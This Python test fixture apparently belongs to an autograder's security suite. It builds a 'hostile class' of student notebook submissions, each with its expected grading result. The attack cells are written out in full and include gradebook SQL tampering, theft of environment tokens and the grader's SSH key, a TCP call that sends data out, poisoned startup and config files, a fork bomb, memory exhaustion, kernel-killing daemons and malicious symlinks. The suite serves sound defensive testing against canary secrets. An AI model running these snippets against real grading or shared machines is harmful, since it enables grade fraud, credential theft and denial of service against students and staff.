"""A hostile class, built by code: attack submissions, each with its expected outcome.

:func:`build_class` makes a scratch course (the zoo's course: the course's
config with short caps, plus :data:`ATTACK_CONFIG`) and writes one
``submitted/<name>/dinosaurus_island/`` per :data:`ATTACKS` entry and per
victim. An attack is the released notebook (``base="blank"``: nothing
solved) or the reference solution (``base="solved"``), with one extra code
cell right after the imports holding the attack, and sometimes extra files
(links, fifos) in the submission folder. The attack code gets the real
paths it would like to reach (the course folder, the grader's home, a
classmate's folder): the worst case, a student who knows the machine.

Victims (``aaa-victim``, graded first, and ``zzz-victim``, graded last: the
batch goes in name order) are correct classmates: they must keep 13/13.

:data:`ATTACKS`' ``status`` and ``cells`` letters use the zoo's notation
(``zoo/build.py``): an attacker scores exactly what it solved.
Attacks on ``zip_collect``, the gradebook trigger check and the feedback HTML
live in the hardening tests (``tests/security/test_zip_collect.py`` ...).
"""

import json
import os
import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from coursetools.layout import CourseLayout
from zoo import build as zoo

ASSIGNMENT, NOTEBOOK = zoo.ASSIGNMENT, zoo.NOTEBOOK
VICTIMS = ("aaa-victim", "zzz-victim")
# What a solved and a blank notebook score, cell by cell: the zoo's table is the one place for it.
SOLVED = next(e.cells for e in zoo.ZOO if e.name == "correct")
BLANK = next(e.cells for e in zoo.ZOO if e.name == "untouched")
NOT_GRADED = "-" * len(zoo.CELLS)

SUBMISSION_TIMEOUT_S = 60  # the batch's wall-clock limit per submission in this suite
MAX_PROCESSES = 48  # tasks of one sandbox in this suite
ATTACK_CONFIG = f"""
# --- the hostile-class suite's caps (tests/security/attacks/build.py) ---
c.Sandbox.scratch_bytes = 32 * 1024**2
c.Sandbox.tmp_bytes = 16 * 1024**2
c.Sandbox.max_processes = {MAX_PROCESSES}
"""
TOKEN = "canary-token-7f3a9e"  # set in the grader's environment (JUPYTERHUB_API_TOKEN, ...)
SECRET = "canary-private-key-5c1d"  # a file in the grader's home (~/.ssh/id_rsa), mode 0600


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    base: str  # "blank" or "solved"
    status: str
    cells: str
    code: str = ""  # the attack cell; str.format fields: see Context.fields
    files: tuple = field(default_factory=tuple)  # extra entries of the submission folder: (kind, name, target)


@dataclass
class Context:
    course: Path
    home: Path  # the grader's home during the batch (a scratch one holding the canaries)
    marker: str  # in the command line of every process an attack starts: none may survive
    port: int  # a TCP listener of the test on 127.0.0.1: no connection may arrive

    @property
    def fields(self):
        return {"course": str(self.course), "home": str(self.home), "marker": self.marker, "port": self.port,
                "gradebook": str(CourseLayout(self.course).gradebook), "assignment": ASSIGNMENT, "notebook": NOTEBOOK,
                "victim": VICTIMS[1]}


ATTACKS = [
    # the gradebook
    Attack("gradebook-absolute", "sqlite3 on the course's gradebook.db by its absolute path: full marks, a trigger",
           "blank", "graded", BLANK, """
        import sqlite3
        con = sqlite3.connect({gradebook!r})
        con.execute("UPDATE grade SET auto_score = 13")
        con.execute("CREATE TRIGGER evil AFTER INSERT ON grade BEGIN UPDATE grade SET auto_score = 0; END")
        con.commit()
        """),
    Attack("gradebook-relative", "sqlite3 on ../../../gradebook.db, as nbgrader's folder layout suggests",
           "blank", "graded", BLANK, """
        import sqlite3
        con = sqlite3.connect("../../../gradebook.db")
        con.execute("UPDATE grade SET auto_score = 13")
        con.commit()
        """),
    # course files and later kernels
    Attack("course-utils", "appends to the course's source/<assignment>/utils/__init__.py and to its own utils/",
           "blank", "graded", BLANK, """
        for path in ({course!r} + "/source/{assignment}/utils/__init__.py", {course!r} + "/utils/__init__.py",
                     "utils/__init__.py", "utils/rnn.py"):
            with open(path, "a") as f:
                f.write("\\nraise SystemExit('poisoned')\\n")
        """),
    Attack("ipython-startup", "writes an IPython startup file (its own ~ and the grader's real home)",
           "blank", "graded", BLANK, """
        import os
        for home in (os.path.expanduser("~"), {home!r}):
            d = os.path.join(home, ".ipython", "profile_default", "startup")
            os.makedirs(d, exist_ok=True)
            open(os.path.join(d, "00-evil.py"), "w").write("import os; os._exit(3)\\n")
        """),
    Attack("course-config", "appends to the course's nbgrader_config.py and writes into the release folder",
           "blank", "graded", BLANK, """
        open({course!r} + "/nbgrader_config.py", "a").write("\\nc.Execute.timeout = 1\\n")
        open({course!r} + "/release/{assignment}/{notebook}", "w").write("{{}}")
        """),
    Attack("classmate-folder", "overwrites a classmate's submitted notebook (graded later in the batch)",
           "blank", "graded", BLANK, """
        open({course!r} + "/submitted/{victim}/{assignment}/{notebook}", "w").write("{{}}")
        """),
    Attack("read-hidden-tests", "reads the source notebook (hidden tests, solution) and prints it",
           "blank", "graded", BLANK, """
        for path in ({course!r} + "/source/{assignment}/{notebook}", "../../../source/{assignment}/{notebook}"):
            print(open(path).read())
        """),
    # the grader's secrets and the network
    Attack("env-tokens", "prints the environment and every process's environment it can read",
           "blank", "graded", BLANK, """
        import os, glob
        print(dict(os.environ))
        for path in glob.glob("/proc/*/environ"):
            try:
                print(path, open(path, "rb").read())
            except OSError:
                pass
        """),
    Attack("read-secrets", "reads the grader's ~/.ssh/id_rsa by its absolute path",
           "blank", "graded", BLANK, """
        print(open({home!r} + "/.ssh/id_rsa").read())
        """),
    Attack("network", "connects to a TCP server of the grading machine and to the internet",
           "blank", "graded", BLANK, """
        import socket
        for addr in (("127.0.0.1", {port}), ("1.1.1.1", 80)):
            s = socket.create_connection(addr, timeout=3)
            s.sendall(b"stolen")
        """),
    # processes
    Attack("setsid-daemon", "setsid daemons that outlive the kernel and kill every other kernel they can see",
           "blank", "graded", BLANK, """
        import os, subprocess, sys
        killer = ("import os, time\\nme = %d\\nwhile True:\\n    for p in os.listdir('/proc'):\\n"
                  "        try:\\n            if p.isdigit() and int(p) != me and b'ipykernel' in "
                  "open('/proc/%%s/cmdline' %% p, 'rb').read():\\n                os.kill(int(p), 9)\\n"
                  "        except OSError:\\n            pass\\n    time.sleep(0.2)  # {marker}" % os.getpid())
        subprocess.Popen([sys.executable, "-c", killer], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "600", "{marker}"])
            os._exit(0)
        """),
    Attack("pipe-stall", "a child that ignores SIGTERM keeps the kernel's stdout open, then the kernel exits",
           "blank", "kernel died", NOT_GRADED, """
        import os, subprocess
        subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; exec sleep 600 {marker}"], start_new_session=True)
        os._exit(0)
        """),
    Attack("kill-everything", "kill(-1, SIGKILL) and a kill of its parent: only its own sandbox can be reached",
           "blank", "graded", BLANK, """
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        os.kill(-1, signal.SIGKILL)
        """),
    Attack("memory-children", "four children of 930 MiB each (every one under the per-process cap)",
           "solved", "kernel died", NOT_GRADED, """
        import subprocess, sys, time
        code = "import numpy as np, time; a = np.ones(930 * 2**20 // 8); time.sleep(120)  # {marker}"
        procs = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]
        time.sleep(60)
        """),
    Attack("fork-bomb", "a fork bomb in a child process; it counts the processes it sees, then stops the bomb",
           "blank", "graded", BLANK, """
        import os, signal, subprocess, sys, time
        code = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.5)  # {marker}"
        bomb = subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
        time.sleep(3)
        print("bomb processes:", sum(1 for p in os.listdir("/proc") if p.isdigit()))
        os.killpg(bomb.pid, signal.SIGKILL)  # the kernel itself cannot start a thread while the bomb holds the quota
        time.sleep(0.5)
        """),
    Attack("ignores-interrupts", "ignores SIGINT and sleeps: the cell timeout cannot interrupt it",
           "blank", "timed out", NOT_GRADED, """
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            try:
                time.sleep(1000)
            except BaseException:
                pass
        """),
    # what the kernel leaves behind
    Attack("left-symlink", "leaves symlinks to the grader's ssh key and to / in its folder",
           "solved", "graded", SOLVED, """
        import os
        os.symlink({home!r} + "/.ssh/id_rsa", "leak.txt")
        os.symlink("/", "root")
        """),
    Attack("left-special-files", "leaves a hard link, a fifo and a setuid file in its folder",
           "solved", "graded", SOLVED, """
        import os
        open("a.txt", "w").write("x")
        os.link("a.txt", "b.txt")
        os.mkfifo("pipe")
        open("suid", "w").write("x")
        os.chmod("suid", 0o6755)
        """),
    Attack("huge-files", "writes 900 MB into its folder, /tmp and /dev/shm",
           "solved", "graded", SOLVED, """
        for path in ("big.bin", "/tmp/big.bin", "/dev/shm/big.bin", "/big.bin"):
            try:
                with open(path, "wb") as f:
                    for _ in range(900):
                        f.write(b"x" * 2**20)
            except OSError as e:
                print(path, e.strerror)
        """),
    # the submission folder itself
    Attack("symlinked-notebook", "the submitted notebook is a symlink to a classmate's notebook",
           "blank", "invalid notebook", NOT_GRADED, files=(("notebook-symlink", NOTEBOOK, "victim"),)),
    Attack("symlinked-notes", "submits notes.txt as a symlink to the grader's ssh key, and a symlinked folder",
           "solved", "graded", SOLVED, files=(("symlink", "notes.txt", "secret"), ("symlink", "home", "home"))),
    Attack("submitted-fifo", "submits a fifo (a plain copy would block forever)",
           "solved", "graded", SOLVED, files=(("fifo", "pipe", None),)),
    Attack("poisoned-utils", "submits its own utils/__init__.py that defines the graded functions",
           "blank", "graded", BLANK, files=(("utils", "utils/__init__.py", None),)),
]

POISONED_UTILS = '''
print("POISONED UTILS LOADED")
from .rnn import *
'''


def _attack_cell(attack, ctx):
    code = textwrap.dedent(attack.code).strip().format(**ctx.fields)
    # a student's code that fails must not stop the rest of the notebook: the attacks are wrapped like this
    body = textwrap.indent(code, "    ")
    return nbformat.v4.new_code_cell(f"try:\n{body}\nexcept Exception as _e:\n    print('attack failed:', repr(_e))\n")


def _notebook(attack, release_nb, source_nb, ctx):
    nb = nbformat.from_dict(json.loads(json.dumps(release_nb)))
    if attack.base == "solved":
        nb = zoo.filled(release_nb, source_nb)
    if attack.code:
        i = nb.cells.index(zoo._by_id(nb, "imports"))
        nb.cells.insert(i + 1, _attack_cell(attack, ctx))
    return nb


def _extra_files(attack, folder, ctx):
    for kind, name, target in attack.files:
        path = folder / name
        if kind == "notebook-symlink":
            path.unlink(missing_ok=True)
            os.symlink(CourseLayout(ctx.course).submitted(VICTIMS[1], ASSIGNMENT) / NOTEBOOK, path)
        elif kind == "symlink":
            os.symlink(ctx.home / ".ssh" / "id_rsa" if target == "secret" else ctx.home, path)
        elif kind == "fifo":
            os.mkfifo(path)
        elif kind == "utils":
            path.write_text(POISONED_UTILS)


def make_home(home):
    """A scratch home for the grader: an ssh key (mode 0600) and an empty IPython startup folder."""
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_rsa"
    key.write_text(SECRET + "\n")
    key.chmod(0o600)
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    return home


def build_class(course_dir, ctx_fields, attacks=ATTACKS):
    """Build the hostile class at ``course_dir``; ``ctx_fields``: home, marker, port. Returns the Context."""
    course = zoo.make_course(course_dir)
    layout = CourseLayout(course)
    with open(layout.config, "a") as f:
        f.write(ATTACK_CONFIG)
    ctx = Context(course=course, **ctx_fields)
    release_dir = layout.release(ASSIGNMENT)
    release_nb = nbformat.read(release_dir / NOTEBOOK, as_version=4)
    source_nb = nbformat.read(layout.source(ASSIGNMENT) / NOTEBOOK, as_version=4)
    for victim in VICTIMS:
        folder = layout.submitted(victim, ASSIGNMENT)
        shutil.copytree(release_dir, folder, ignore=shutil.ignore_patterns("__pycache__", "*.ipynb"))
        nbformat.write(zoo.filled(release_nb, source_nb), folder / NOTEBOOK)
    for attack in attacks:
        folder = layout.submitted(attack.name, ASSIGNMENT)
        shutil.copytree(release_dir, folder, ignore=shutil.ignore_patterns("__pycache__", "*.ipynb"))
        nbformat.write(_notebook(attack, release_nb, source_nb, ctx), folder / NOTEBOOK)
        _extra_files(attack, folder, ctx)
    return ctx


def expected_table(attacks=ATTACKS):
    """``{student: {"status", "cells", "total"}}`` for the attackers and the victims (the zoo's shape)."""
    entries = [zoo.Entry(v, "a correct classmate", "graded", SOLVED) for v in VICTIMS]
    entries += [zoo.Entry(a.name, a.what, a.status, a.cells) for a in attacks]
    return zoo.expected_table(entries)
